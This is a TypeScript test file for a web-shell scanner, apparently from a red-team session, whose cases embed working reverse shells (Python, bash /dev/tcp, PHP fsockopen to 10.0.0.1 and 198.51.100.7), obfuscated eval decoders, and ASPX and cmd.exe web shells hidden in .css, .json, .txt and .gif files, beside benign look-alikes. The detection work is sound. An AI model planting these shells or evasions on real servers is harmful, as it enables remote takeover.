/**
 * Red team s25 of 7b6ba76, 654c6d9 (our YARA rules in families; data files read by the user's rules
 * only) and 32363b3 (php-shapes: decrypted-body-eval, socket-command, globals-char-table,
 * eval-own-decoder, db-client-input; mamori_php_reverse_shell $sh4, mamori_aspx_assembly_load $in4,
 * mamori_aspx_process_control_input $c2): regressions against 82bebf2, evasions a real attacker
 * would write, benign look-alikes, and the cost of the new analysers on crafted files. Every sample is
 * our own. bench/redteam/README-s25.md has the findings table.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createScanner } from './scanner.js';
import { phpShapes } from './php-shapes.js';

const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

type Expect = 'malicious' | 'flagged' | 'not-malicious' | 'clean';
// [finding id (a todo) or undefined (a property that holds, or a finding fixed here), what, path, the file, what it should be]
// a comment of 67 KB
const PAD = `/* ${'lorem ipsum dolor sit amet '.repeat(2500)} */\n`;

const CASES: [string | undefined, string, string, string, Expect][] = [
  [undefined, "S25R-1 (fixed here): a Python reverse shell kept as a source map (app.map), run by `python3 app.map`", "/www/assets/app.map", "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"10.0.0.1\",4444))\nos.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\np=subprocess.call([\"/bin/sh\",\"-i\"])\n", "malicious"],
  [undefined, "S25R-1 (fixed here): a Perl CGI shell as style.css, for a handler that needs no \"#!\" (ModPerl::Registry)", "/www/css/style.css", "use CGI qw(param);\nprint \"Content-type: text/plain\\n\\n\";\nprint `id`;\nsystem(param('c'));\n", "malicious"],
  [undefined, "S25R-1 (fixed here): Python running decoded code, kept as notes.md", "/www/docs/notes.md", "exec(base64.b64decode(\"cHJpbnQoMSk=\"))\n", "malicious"],
  [undefined, "S25R-1 (fixed here): a short-tag PHP reverse shell (<? \\\\system(..), a tag hasPhpTag does not take) in t.json", "/www/data/t.json", "<? \\system(\"bash -c 'sh -i >& /dev/tcp/10.0.0.1/4444 0>&1'\"); ?>\n", "malicious"],
  [undefined, "S25R-2 (fixed here): exec(\"sh -i <&3 >&3 2>&3\") beside fsockopen (exec was not among the rule's runners)", "/www/x.php", "<?php $sock = fsockopen(\"198.51.100.7\", 9001); exec(\"sh -i <&3 >&3 2>&3\");\n", "malicious"],
  [undefined, "S25R-2 (fixed here): shell_exec(\"bash -i 0<&3 1>&3 2>&3\") (descriptors written)", "/www/x.php", "<?php $sock = fsockopen(\"198.51.100.7\", 9001); shell_exec(\"bash -i 0<&3 1>&3 2>&3\");\n", "malicious"],
  [undefined, "S25R-2 (fixed here): proc_open(\"bash -i >&3 <&3 2>&3\") (the other order)", "/www/x.php", "<?php $sock = fsockopen(\"198.51.100.7\", 9001); proc_open(\"bash -i >&3 <&3 2>&3\", array(), $pipes);\n", "malicious"],
  [undefined, "S25R-2 (fixed here): system(\"bash <&3 >&3 2>&3\")", "/www/x.php", "<?php $sock = fsockopen(\"198.51.100.7\", 9001); system(\"bash <&3 >&3 2>&3\");\n", "malicious"],
  [undefined, "S25R-4 (fixed here): socket-command: $cmd = trim(fgets($c, 4096)); shell_exec($cmd)", "/www/x.php", "<?php\n$c = @fsockopen('198.51.100.7', 8443);\nwhile ($c && !feof($c)) { $cmd = trim(fgets($c, 4096)); fwrite($c, (string) shell_exec($cmd)); }\n", "malicious"],
  [undefined, "S25R-4 (fixed here): socket-command: socket_recv($peer, $line, ..) (the buffer by reference), shell_exec($line)", "/www/x.php", "<?php\n$srv = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\nsocket_bind($srv, '0.0.0.0', 4711); socket_listen($srv);\n$peer = socket_accept($srv);\nwhile (socket_recv($peer, $line, 2048, 0)) {\n  socket_write($peer, (string) shell_exec($line));\n}\n", "malicious"],
  [undefined, "S25R-4 (fixed here): socket-command: the command run in backticks", "/www/x.php", "<?php\n$c = @fsockopen('198.51.100.7', 8443);\nwhile ($c && !feof($c)) { $cmd = fgets($c, 4096); fwrite($c, `$cmd`); }\n", "malicious"],
  [undefined, "S25R-4 (fixed here): socket-command: stream_get_contents, run as \"$cmd 2>&1\"", "/www/x.php", "<?php\n$c = stream_socket_client('tcp://198.51.100.7:8443');\nwhile (($cmd = stream_get_contents($c, 1024)) !== '') { fwrite($c, (string) shell_exec(\"$cmd 2>&1\")); }\n", "malicious"],
  [undefined, "S25R-9 (fixed in session 25: the tags are no code when excerpts are cut, so the shell after the comment is a statement of its own, excerpted): socket-command: the reverse shell padded past 64 KB with a comment", "/www/x.php", '<?php\n' + PAD + "$c = @fsockopen(\"198.51.100.7\", 8443);\nwhile ($c && !feof($c)) { $cmd = fgets($c, 4096); fwrite($c, (string) @passthru($cmd)); }\n", "flagged"],
  [undefined, "S25R-5 (fixed here): not malicious: a XOR helper with its assert() self-test (eval-own-decoder was 80)", "/www/lib/xor.php", "<?php\n// A tiny XOR obfuscation helper for cache keys, with its self-test.\nfunction xor_encode(string $s, int $k): string {\n    $o = '';\n    for ($i = 0; $i < strlen($s); $i++) {\n        $o .= chr(ord($s[$i]) ^ $k);\n    }\n    return $o;\n}\nassert(xor_encode(xor_encode('cache-key', 42), 42) === 'cache-key');\necho bin2hex(xor_encode('cache-key', 42)), \"\\n\";\n", "not-malicious"],
  [undefined, "S25R-5 (fixed here): not malicious: a UTF-8 encoder with assert() tests (eval-own-decoder was 80)", "/www/lib/utf8.php", "<?php\n/** Encode a code point as UTF-8. */\nfunction utf8_chr(int $cp): string {\n    if ($cp < 0x80) return chr($cp);\n    if ($cp < 0x800) return chr(0xC0 | ($cp >> 6)) . chr(0x80 | ($cp & 0x3F));\n    return chr(0xE0 | ($cp >> 12)) . chr(0x80 | (($cp >> 6) & 0x3F)) . chr(0x80 | ($cp & 0x3F));\n}\nassert(utf8_chr(0x20AC) === \"\\xE2\\x82\\xAC\");\nassert(utf8_chr(65) === 'A');\n", "not-malicious"],
  [undefined, "S25R-5 (fixed here): not malicious: a calculator whose method is named eval, given tokens() (eval-own-decoder was 80)", "/www/calc.php", "<?php\n// A small arithmetic expression calculator.\nclass Calc {\n    public function run(string $expr) { return $this->eval(tokens($expr)); }\n    private function eval(array $t) { $acc = 0; foreach ($t as $x) { if (is_int($x)) $acc += $x; } return $acc; }\n}\nfunction tokens(string $s): array {\n    $out = [];\n    for ($i = 0, $n = strlen($s); $i < $n; $i++) {\n        $c = ord($s[$i]);\n        if ($c >= 48 && $c <= 57) $out[] = $c - 48; else $out[] = chr($c);\n    }\n    return $out;\n}\necho (new Calc())->run($_GET['e'] ?? '1+2');\n", "not-malicious"],
  [undefined, "S25R-5 (fixed here): not malicious: a remember-me cookie decrypter with assert($ok) (decrypted-body-eval was 85)", "/www/remember.php", "<?php\n// Encrypted \"remember me\" cookie.\nconst KEY = 'c2VjcmV0LWtleS0zMi1ieXRlcy1sb25nLi4uLi4=';\nfunction remembered(): ?int {\n    $raw = $_COOKIE['remember'] ?? '';\n    $bin = base64_decode($raw, true);\n    if ($bin === false || strlen($bin) < 17) return null;\n    $plain = openssl_decrypt(substr($bin, 16), 'aes-256-cbc', base64_decode(KEY), OPENSSL_RAW_DATA, substr($bin, 0, 16));\n    $ok = is_string($plain) && ctype_digit($plain);\n    assert($ok);\n    return $ok ? (int) $plain : null;\n}\n$uid = remembered();\necho $uid === null ? 'guest' : \"user $uid\";\n", "not-malicious"],
  [undefined, "S25R-5: and assert() given the decoder's result as its whole argument is still malicious", "/www/x.php", "<?php\nfunction def($t) { $s = ''; foreach ($t as $n) { $s .= chr($n ^ 23); } return $s; }\nassert(def(array(100, 110, 100, 99, 114, 122, 63, 51, 62, 46, 44)));\n", "malicious"],
  [undefined, "S25R-5: a database installer testing the form's settings is not flagged", "/www/install/step2.php", "<?php\n// Installer step 2: test the database settings entered on the form.\n$host = trim($_POST['db_host']);\n$db = new mysqli($host, $_POST['db_user'], $_POST['db_pass'], $_POST['db_name']);\nif ($db->connect_errno) { echo 'Could not connect'; exit; }\n$prefix = $_POST['prefix'];\n$sql = \"SHOW TABLES LIKE '\" . $db->real_escape_string($prefix) . \"%'\";\n$r = $db->query($sql);\necho $r->num_rows ? 'Tables exist' : 'Empty database';\n", "clean"],
  [undefined, "S25R-5: a small Redis client (fsockopen, fgets) beside an exec of a fixed hook is not malicious", "/www/deploy.php", "<?php\n// Minimal Redis client reading replies; runs a local post-deploy hook named by config.\nfinal class MiniRedis {\n    private $fp;\n    public function __construct(string $h = '127.0.0.1', int $p = 6379) { $this->fp = fsockopen($h, $p); }\n    public function cmd(string ...$a): string {\n        $out = '*' . count($a) . \"\\r\\n\";\n        foreach ($a as $x) $out .= '$' . strlen($x) . \"\\r\\n\" . $x . \"\\r\\n\";\n        fwrite($this->fp, $out);\n        $line = fgets($this->fp);\n        return rtrim((string) $line);\n    }\n}\n$hook = '/usr/local/bin/after-deploy';\n$r = new MiniRedis();\n$state = $r->cmd('GET', 'deploy:state');\nif ($state === '+OK') { $line = escapeshellarg($state); exec($hook . ' ' . $line); }\n", "not-malicious"],
  [undefined, "S25R-13 (fixed in session 26): eval-own-decoder: eval($this->def($this->table)), the decoder chr($n - 7) (a method's result needs a XOR or a shift since S25R-13's fix)", "/www/x.php", "<?php\nclass Page {\n  private $table = array(113, 104, 124, 120, 127, 118, 37, 44, 43, 48, 45, 31);\n  private function def($t) { $s = ''; foreach ($t as $n) { $s .= chr($n - 7); } return $s; }\n  public function __construct() { eval($this->def($this->table)); }\n}\nnew Page();\n", "malicious"],
  [undefined, "S25R-6 (fixed here): eval-own-decoder: $code = def(..); eval($code)", "/www/x.php", "<?php\nfunction def($t) { $s = ''; foreach ($t as $n) { $s .= chr($n ^ 23); } return $s; }\n$code = def(array(100, 110, 100, 99, 114, 122, 63, 51, 62, 46, 44));\neval($code);\n", "malicious"],
  [undefined, "S25R-6 (fixed here): eval-own-decoder: eval($this->def(..)) with a XOR decoder", "/www/x.php", "<?php\nclass Page {\n  private $table = array(100, 110, 100, 99, 114, 122, 63, 51, 62, 46, 44);\n  private function def($t) { $s = ''; foreach ($t as $n) { $s .= chr($n ^ 23); } return $s; }\n  public function __construct() { eval($this->def($this->table)); }\n}\nnew Page();\n", "malicious"],
  [undefined, "S25R-7 (fixed here): globals-char-table with the indexes in hex ($GLOBALS['t'][0x12])", "/www/x.php", "<?php\n$GLOBALS['t'] = 'abcdefghijklmnopqrstuvwxyz_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.';\n$GLOBALS[$GLOBALS['t'][0x12] . $GLOBALS['t'][0x18] . $GLOBALS['t'][0x12] . $GLOBALS['t'][0x13] . $GLOBALS['t'][0x4] . $GLOBALS['t'][0xc]] = 1;\n$f1 = $GLOBALS['t'][0x12] . $GLOBALS['t'][0x18] . $GLOBALS['t'][0x12] . $GLOBALS['t'][0x13] . $GLOBALS['t'][0x4] . $GLOBALS['t'][0xc];\n$f2 = $GLOBALS['t'][0x1] . $GLOBALS['t'][0x0] . $GLOBALS['t'][0x12] . $GLOBALS['t'][0x4];\n$f3 = $GLOBALS['t'][0x4] . $GLOBALS['t'][0x15] . $GLOBALS['t'][0x0] . $GLOBALS['t'][0xb];\n$GLOBALS[$GLOBALS['t'][0x12] . $GLOBALS['t'][0x18] . $GLOBALS['t'][0x12] . $GLOBALS['t'][0x13] . $GLOBALS['t'][0x4] . $GLOBALS['t'][0xc]]($_REQUEST['q']);\n", "malicious"],
  [undefined, "S25R-8 (fixed here): Assembly.Load of Request.GetBufferlessInputStream()", "/www/x.aspx", "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Reflection\" %>\n<script runat=\"server\">\nprotected void Page_Load(object sender, EventArgs e) {\n  var ms = new System.IO.MemoryStream();\n  Request.GetBufferlessInputStream().CopyTo(ms);\n  Assembly.Load(ms.ToArray()).CreateInstance(\"U\").Equals(this);\n}\n</script>\n", "malicious"],
  [undefined, "S25R-8 (fixed here): Assembly.Load of Request.Files[0].InputStream", "/www/x.aspx", "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected void Page_Load(object sender, EventArgs e) {\n  var ms = new System.IO.MemoryStream();\n  Context.Request.Files[0].InputStream.CopyTo(ms);\n  System.Reflection.Assembly.Load(ms.ToArray()).CreateInstance(\"U\").Equals(this);\n}\n</script>\n", "malicious"],
  [undefined, "$in4 holds: Assembly.Load of Request.InputStream", "/www/x.aspx", "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Reflection\" %>\n<script runat=\"server\">\nprotected void Page_Load(object sender, EventArgs e) {\n  var ms = new System.IO.MemoryStream();\n  Request.InputStream.CopyTo(ms);\n  Assembly.Load(ms.ToArray()).CreateInstance(\"U\").Equals(this);\n}\n</script>\n", "malicious"],
  [undefined, "S25R-10 (fixed here): not malicious: ProcessStartInfo(\"ping.exe\", \"-n 1 \" + HostBox.Text) ($c2 took any program)", "/www/ping.aspx", "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected void Go_Click(object sender, EventArgs e) {\n  if (!System.Text.RegularExpressions.Regex.IsMatch(HostBox.Text, @\"^[\\w.-]+$\")) return;\n  var psi = new System.Diagnostics.ProcessStartInfo(\"ping.exe\", \"-n 1 \" + HostBox.Text) { UseShellExecute = false, RedirectStandardOutput = true };\n  using (var p = System.Diagnostics.Process.Start(psi)) Output.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());\n}\n</script>\n<form runat=\"server\"><asp:TextBox ID=\"HostBox\" runat=\"server\" /><asp:Button ID=\"Go\" runat=\"server\" OnClick=\"Go_Click\" Text=\"Ping\" /><asp:Literal ID=\"Output\" runat=\"server\" /></form>\n", "not-malicious"],
  [undefined, "S25R-10: $c2 still takes cmd.exe with a control's text, on two lines", "/www/x.aspx", "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected void Run_Click(object sender, EventArgs e) {\n  var info = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\",\n      \"/c \" + CmdBox.Text);\n  info.UseShellExecute = false; info.RedirectStandardOutput = true;\n  var p = System.Diagnostics.Process.Start(info);\n  Out.Text = p.StandardOutput.ReadToEnd();\n}\n</script>\n<form runat=\"server\"><asp:TextBox ID=\"CmdBox\" runat=\"server\"/><asp:Button runat=\"server\" OnClick=\"Run_Click\" Text=\"Go\"/><asp:Label ID=\"Out\" runat=\"server\"/></form>\n", "malicious"],
  [undefined, "S25R-10: $c2 still takes cmd.exe with string.Format of a control's text", "/www/x.aspx", "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected void Run_Click(object sender, EventArgs e) {\n  var info = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", string.Format(\"/c {0}\", CmdBox.Text));\n  info.UseShellExecute = false; info.RedirectStandardOutput = true;\n  var p = System.Diagnostics.Process.Start(info);\n  Out.Text = p.StandardOutput.ReadToEnd();\n}\n</script>\n<form runat=\"server\"><asp:TextBox ID=\"CmdBox\" runat=\"server\"/><asp:Button runat=\"server\" OnClick=\"Run_Click\" Text=\"Go\"/><asp:Label ID=\"Out\" runat=\"server\"/></form>\n", "malicious"],
  [undefined, "S25R-12 (fixed here): a short tag then a parenthesis, <? (\"sys\".\"tem\")($_GET[..]), in a .txt served as PHP", "/www/files/a.txt", "<? (\"sys\".\"tem\")($_GET[\"c\"]); ?>\n", "malicious"],
  [undefined, "S25R-12 (fixed here): a short tag then a namespaced call on the next line, <?\\n\\\\system($_GET[..])", "/www/files/e.txt", "<?\n\\system($_GET[\"c\"]);\n", "malicious"],
  [undefined, "S25R-12 (fixed here): the same parenthesis form in a GIF upload", "/www/uploads/d.gif", "GIF89a<? (\"sys\".\"tem\")($_GET[\"c\"]); ?>\n", "malicious"],
  [undefined, "S25R-12 (fixed here): a short tag then a list assignment, <? [$f] = [\"system\"]; $f($_GET[..])", "/www/files/c.txt", "<? [$f] = [\"system\"]; $f($_GET[\"c\"]); ?>\n", "flagged"],
  [undefined, "S25R-13 (fixed here): not malicious: a template engine, eval('?>' . compile_view($src)), its compiler reading characters with ord() and chr() (eval-own-decoder was 80 at 32363b3)", "/www/lib/view.php", "<?php\n// A tiny template engine: {{ name }} to escaped output.\nfunction compile_view(string $src): string {\n    $src = str_replace(chr(13), '', $src);\n    $out = '';\n    for ($i = 0, $n = strlen($src); $i < $n; $i++) {\n        $c = $src[$i];\n        if ($c === '{' && ($src[$i + 1] ?? '') === '{') {\n            $end = strpos($src, '}}', $i);\n            $out .= '<?= htmlspecialchars($' . trim(substr($src, $i + 2, $end - $i - 2)) . ') ?>';\n            $i = $end + 1;\n        } elseif (ord($c) < 32 && $c !== \"\\n\" && $c !== \"\\t\") {\n            continue;\n        } else {\n            $out .= $c;\n        }\n    }\n    return $out;\n}\nfunction render(string $file, array $vars): string {\n    extract($vars);\n    ob_start();\n    eval('?>' . compile_view(file_get_contents($file)));\n    return ob_get_clean();\n}\necho render(__DIR__ . '/views/home.tpl', ['title' => 'Welcome']);\n", "not-malicious"],
  [undefined, "S25R-13 (fixed here): not malicious: the same engine as a class, eval('?>' . $this->compile(..)) (S25R-6's method form must not take it)", "/www/lib/View.php", "<?php\n// A tiny template engine: {{ name }} to escaped output, {% raw %} passes through.\nclass View {\n    private $dir;\n    public function __construct(string $dir) { $this->dir = $dir; }\n    public function render(string $name, array $vars): string {\n        extract($vars);\n        ob_start();\n        eval('?>' . $this->compile(file_get_contents($this->dir . '/' . $name . '.tpl')));\n        return ob_get_clean();\n    }\n    private function compile(string $src): string {\n        $src = str_replace(chr(13), '', $src);\n        $out = '';\n        for ($i = 0, $n = strlen($src); $i < $n; $i++) {\n            $c = $src[$i];\n            if ($c === '{' && ($src[$i + 1] ?? '') === '{') {\n                $end = strpos($src, '}}', $i);\n                $out .= '<?= htmlspecialchars($' . trim(substr($src, $i + 2, $end - $i - 2)) . ') ?>';\n                $i = $end + 1;\n            } elseif (ord($c) < 32 && $c !== \"\\n\" && $c !== \"\\t\") {\n                continue;\n            } else {\n                $out .= $c;\n            }\n        }\n        return $out;\n    }\n}\necho (new View(__DIR__ . '/views'))->render('home', ['title' => 'Welcome']);\n", "not-malicious"],
  [undefined, "S25R-13 (fixed here): not malicious: the same engine through a variable, $php = $this->compile(..); eval(\"?>\" . $php)", "/www/lib/View2.php", "<?php\n// A tiny template engine: {{ name }} to escaped output, {% raw %} passes through.\nclass View {\n    private $dir;\n    public function __construct(string $dir) { $this->dir = $dir; }\n    public function render(string $name, array $vars): string {\n        extract($vars);\n        ob_start();\n        $php = $this->compile(file_get_contents($this->dir . \"/\" . $name . \".tpl\"));\n        eval(\"?>\" . $php);\n        return ob_get_clean();\n    }\n    private function compile(string $src): string {\n        $src = str_replace(chr(13), '', $src);\n        $out = '';\n        for ($i = 0, $n = strlen($src); $i < $n; $i++) {\n            $c = $src[$i];\n            if ($c === '{' && ($src[$i + 1] ?? '') === '{') {\n                $end = strpos($src, '}}', $i);\n                $out .= '<?= htmlspecialchars($' . trim(substr($src, $i + 2, $end - $i - 2)) . ') ?>';\n                $i = $end + 1;\n            } elseif (ord($c) < 32 && $c !== \"\\n\" && $c !== \"\\t\") {\n                continue;\n            } else {\n                $out .= $c;\n            }\n        }\n        return $out;\n    }\n}\necho (new View(__DIR__ . '/views'))->render('home', ['title' => 'Welcome']);\n", "not-malicious"],
  [undefined, "S25R-13 (fixed in session 26): eval('?>' . def($t)) with a decoder that only shifts by subtraction (chr($n - 7)): the price of S25R-13's fix", "/www/x.php", "<?php\nfunction def($t) { $s = ''; foreach ($t as $n) { $s .= chr($n - 7); } return $s; }\neval('?>' . def(array(67, 70, 119, 111, 119, 39, 122, 128, 122, 123, 108, 116, 47, 43, 102, 78, 76, 91, 98, 46, 106, 46, 100, 48, 66, 39, 70, 69)));\n", "malicious"],
  [undefined, "S25R-14 (fixed here): the proc_open one-liner, proc_open('sh', array(0 => $s, 1 => $s, 2 => $s), $pipes) on a socket (clean at base and 32363b3)", "/www/x.php", "<?php\n$s = stream_socket_client('tcp://198.51.100.7:9001');\n$p = proc_open('sh', array(0 => $s, 1 => $s, 2 => $s), $pipes);\nproc_close($p);\n", "malicious"],
  [undefined, "S25R-14 (fixed here): proc_open('bash -i', [$s, $s, $s], $pipes) after fsockopen", "/www/x.php", "<?php\n$s = fsockopen('198.51.100.7', 9001);\n$p = proc_open('bash -i', [$s, $s, $s], $pipes);\n", "malicious"],
  [undefined, "S25R-14: not malicious: a cron script running uptime into its log with proc_open, beside a Graphite socket", "/www/cron/metrics.php", "<?php\n// Cron job: run uptime into the log and send the load average to Graphite.\n$log = fopen('/var/log/app/uptime.log', 'a');\n$null = fopen('/dev/null', 'r');\n$p = proc_open('uptime', [0 => $null, 1 => $log, 2 => $log], $pipes);\nproc_close($p);\n$load = sys_getloadavg()[0];\n$fp = fsockopen('graphite.internal', 2003);\nfwrite($fp, sprintf(\"app.load %F %d\\n\", $load, time()));\nfclose($fp);\n", "not-malicious"],
  [undefined, "S25R-15 (fixed here): new ProcessStartInfo { FileName = \"cmd.exe\", Arguments = \"/c \" + CmdBox.Text } (an object initializer; clean at base and 32363b3)", "/www/x.aspx", "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected void Run_Click(object sender, EventArgs e) {\n  var info = new System.Diagnostics.ProcessStartInfo { FileName = \"cmd.exe\", Arguments = \"/c \" + CmdBox.Text, UseShellExecute = false, RedirectStandardOutput = true };\n  var p = System.Diagnostics.Process.Start(info);\n  Out.Text = p.StandardOutput.ReadToEnd();\n}\n</script>\n<form runat=\"server\"><asp:TextBox ID=\"CmdBox\" runat=\"server\"/><asp:Button runat=\"server\" OnClick=\"Run_Click\" Text=\"Go\"/><asp:Label ID=\"Out\" runat=\"server\"/></form>\n", "malicious"],
  [undefined, "S25R-15: not malicious: the validating ping page written with an object initializer", "/www/ping2.aspx", "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected void Go_Click(object sender, EventArgs e) {\n  if (!System.Text.RegularExpressions.Regex.IsMatch(HostBox.Text, @\"^[\\w.-]+$\")) return;\n  var psi = new System.Diagnostics.ProcessStartInfo { FileName = \"ping.exe\", Arguments = \"-n 1 \" + HostBox.Text, UseShellExecute = false, RedirectStandardOutput = true };\n  using (var p = System.Diagnostics.Process.Start(psi)) Output.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());\n}\n</script>\n<form runat=\"server\"><asp:TextBox ID=\"HostBox\" runat=\"server\" /><asp:Button ID=\"Go\" runat=\"server\" OnClick=\"Go_Click\" Text=\"Ping\" /><asp:Literal ID=\"Output\" runat=\"server\" /></form>\n", "not-malicious"],
  [undefined, "socket-command holds: popen(trim($l)) of what fgets read, in a while condition", "/www/x.php", "<?php\n$s = fsockopen('198.51.100.7', 9001);\nwhile ($l = fgets($s)) { $h = popen(trim($l), 'r'); fwrite($s, stream_get_contents($h)); pclose($h); }\n", "malicious"],
  [undefined, "S25R-13 (fixed here): not malicious: a rule engine, eval('return ' . $this->compile($rule) . ';'), its lexer reading with ord() and chr()", "/www/lib/Rules.php", "<?php\n// A small rule engine: \"age > 18 and country == 'NL'\" compiled to PHP and evaluated.\nfinal class Rules {\n    public function test(string $rule, array $vars): bool {\n        extract($vars);\n        return (bool) eval('return ' . $this->compile($rule) . ';');\n    }\n    private function compile(string $e): string {\n        $out = '';\n        for ($i = 0, $n = strlen($e); $i < $n; $i++) {\n            $c = $e[$i];\n            $o = ord($c);\n            if (($o >= 97 && $o <= 122) || $o === 95) {\n                $w = '';\n                while ($i < $n && preg_match('/\\\\w/', $e[$i])) { $w .= $e[$i++]; }\n                $i--;\n                $out .= in_array($w, ['and', 'or', 'not'], true) ? \" $w \" : '$' . $w;\n            } elseif ($o === 39) {\n                $end = strpos($e, chr(39), $i + 1);\n                $out .= var_export(substr($e, $i + 1, $end - $i - 1), true);\n                $i = $end;\n            } else {\n                $out .= $c;\n            }\n        }\n        return $out;\n    }\n}\nvar_dump((new Rules())->test(\"age > 18 and country == 'NL'\", ['age' => 30, 'country' => 'NL']));\n", "not-malicious"],
  [undefined, "S25R-16 (fixed here): eval-own-decoder: the decoder's chr(.. ^ ..) after 2 KB of unused code in its body (only its first 2 KB were read)", "/www/x.php", "<?php\nfunction def($t) {\n    $unused = array(0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32, 33, 34, 35, 36, 37, 38, 39, 40, 41, 42, 43, 44, 45, 46, 47, 48, 49, 50, 51, 52, 53, 54, 55, 56, 57, 58, 59, 60, 61, 62, 63, 64, 65, 66, 67, 68, 69, 70, 71, 72, 73, 74, 75, 76, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 88, 89, 90, 91, 92, 93, 94, 95, 96, 97, 98, 99, 100, 101, 102, 103, 104, 105, 106, 107, 108, 109, 110, 111, 112, 113, 114, 115, 116, 117, 118, 119, 120, 121, 122, 123, 124, 125, 126, 127, 128, 129, 130, 131, 132, 133, 134, 135, 136, 137, 138, 139, 140, 141, 142, 143, 144, 145, 146, 147, 148, 149, 150, 151, 152, 153, 154, 155, 156, 157, 158, 159, 160, 161, 162, 163, 164, 165, 166, 167, 168, 169, 170, 171, 172, 173, 174, 175, 176, 177, 178, 179, 180, 181, 182, 183, 184, 185, 186, 187, 188, 189, 190, 191, 192, 193, 194, 195, 196, 197, 198, 199, 200, 201, 202, 203, 204, 205, 206, 207, 208, 209, 210, 211, 212, 213, 214, 215, 216, 217, 218, 219, 220, 221, 222, 223, 224, 225, 226, 227, 228, 229, 230, 231, 232, 233, 234, 235, 236, 237, 238, 239, 240, 241, 242, 243, 244, 245, 246, 247, 248, 249, 250, 251, 252, 253, 254, 255, 256, 257, 258, 259, 260, 261, 262, 263, 264, 265, 266, 267, 268, 269, 270, 271, 272, 273, 274, 275, 276, 277, 278, 279, 280, 281, 282, 283, 284, 285, 286, 287, 288, 289, 290, 291, 292, 293, 294, 295, 296, 297, 298, 299);\n    $unused = array(0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32, 33, 34, 35, 36, 37, 38, 39, 40, 41, 42, 43, 44, 45, 46, 47, 48, 49, 50, 51, 52, 53, 54, 55, 56, 57, 58, 59, 60, 61, 62, 63, 64, 65, 66, 67, 68, 69, 70, 71, 72, 73, 74, 75, 76, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 88, 89, 90, 91, 92, 93, 94, 95, 96, 97, 98, 99, 100, 101, 102, 103, 104, 105, 106, 107, 108, 109, 110, 111, 112, 113, 114, 115, 116, 117, 118, 119, 120, 121, 122, 123, 124, 125, 126, 127, 128, 129, 130, 131, 132, 133, 134, 135, 136, 137, 138, 139, 140, 141, 142, 143, 144, 145, 146, 147, 148, 149, 150, 151, 152, 153, 154, 155, 156, 157, 158, 159, 160, 161, 162, 163, 164, 165, 166, 167, 168, 169, 170, 171, 172, 173, 174, 175, 176, 177, 178, 179, 180, 181, 182, 183, 184, 185, 186, 187, 188, 189, 190, 191, 192, 193, 194, 195, 196, 197, 198, 199, 200, 201, 202, 203, 204, 205, 206, 207, 208, 209, 210, 211, 212, 213, 214, 215, 216, 217, 218, 219, 220, 221, 222, 223, 224, 225, 226, 227, 228, 229, 230, 231, 232, 233, 234, 235, 236, 237, 238, 239, 240, 241, 242, 243, 244, 245, 246, 247, 248, 249, 250, 251, 252, 253, 254, 255, 256, 257, 258, 259, 260, 261, 262, 263, 264, 265, 266, 267, 268, 269, 270, 271, 272, 273, 274, 275, 276, 277, 278, 279, 280, 281, 282, 283, 284, 285, 286, 287, 288, 289, 290, 291, 292, 293, 294, 295, 296, 297, 298, 299);\n    $s = \"\";\n    foreach ($t as $n) { $s .= chr($n ^ 23); }\n    return $s;\n}\neval(def(array(100, 110, 100, 99, 114, 122, 63, 53, 126, 115, 53, 62, 44)));\n", "malicious"],
  [undefined, "S25R-13 (fixed here): not malicious: the rule engine as functions, eval(\"return \" . compile_rule($rule) . \";\") (eval-own-decoder was 80 at 32363b3)", "/www/lib/rules.php", "<?php\nfunction compile_rule(string $e): string {\n    $out = \"\";\n    for ($i = 0, $n = strlen($e); $i < $n; $i++) {\n        $c = $e[$i]; $o = ord($c);\n        if ($o === 39) { $end = strpos($e, chr(39), $i + 1); $out .= var_export(substr($e, $i + 1, $end - $i - 1), true); $i = $end; }\n        else { $out .= $c; }\n    }\n    return $out;\n}\nfunction test_rule(string $rule, array $vars): bool { extract($vars); return (bool) eval(\"return \" . compile_rule($rule) . \";\"); }\nvar_dump(test_rule(\"$age > 18\", [\"age\" => 30]));\n", "not-malicious"],
];

describe('scan: red team s25, the families and the new shapes', () => {
  for (const [id, what, path, src, expect] of CASES) {
    it(`${id ? `${id}: ` : ''}${expect}: ${what}`, id ? { todo: id } : {}, () => {
      const r = scan(src, path);
      const why = JSON.stringify({ verdict: r.verdict, score: r.score, findings: r.findings.map((f) => `${f.rule} ${f.score}`) });
      if (expect === 'malicious') assert.equal(r.verdict, 'malicious', why);
      else if (expect === 'flagged') assert.notEqual(r.verdict, 'clean', why);
      else if (expect === 'not-malicious') assert.notEqual(r.verdict, 'malicious', why);
      else assert.equal(r.verdict, 'clean', why);
    });
  }
});

const tarEntry = (name: string, body: string): Buffer => {
  const h = Buffer.alloc(512);
  h.write(name, 0, 'latin1');
  h.write('0000644\0', 100, 'latin1');
  h.write('0000000\0', 108, 'latin1');
  h.write('0000000\0', 116, 'latin1');
